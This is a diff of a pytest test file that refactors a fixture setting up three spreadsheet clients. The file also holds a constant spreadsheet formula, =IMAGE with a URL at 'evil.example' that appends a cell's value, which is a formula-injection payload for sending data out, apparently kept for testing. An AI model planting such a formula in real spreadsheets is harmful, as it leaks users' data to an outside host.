@@ -6,26 +6,16 @@ from collections.abc import Iterator
 
 import pytest
 
-from tests.scenarios.office import Office, office_after
+from tests.scenarios.office import Office, office_after, with_clients
 from tests.scenarios.test_marks import looks
 
 OUT = '=IMAGE("https://evil.example/?d="&B{row})'
 
 
-def begin(opened: Office) -> None:
-    """Three clients, in agreement on both sides."""
-    opened.sync()
-    tab = opened.tab("Clients")
-    for number in (1, 2, 3):
-        tab.append(Name=f"Client {number}", Phone=f"+7912000000{number}", City="Perm")
-    opened.sync()
-    assert opened.disagreements() == []
-
-
 @pytest.fixture
 def office() -> Iterator[Office]:
-    """The office after that."""
-    with office_after(begin) as opened:
+    """Three clients, in agreement on both sides."""
+    with office_after(with_clients(3)) as opened:
         yield opened
 
 
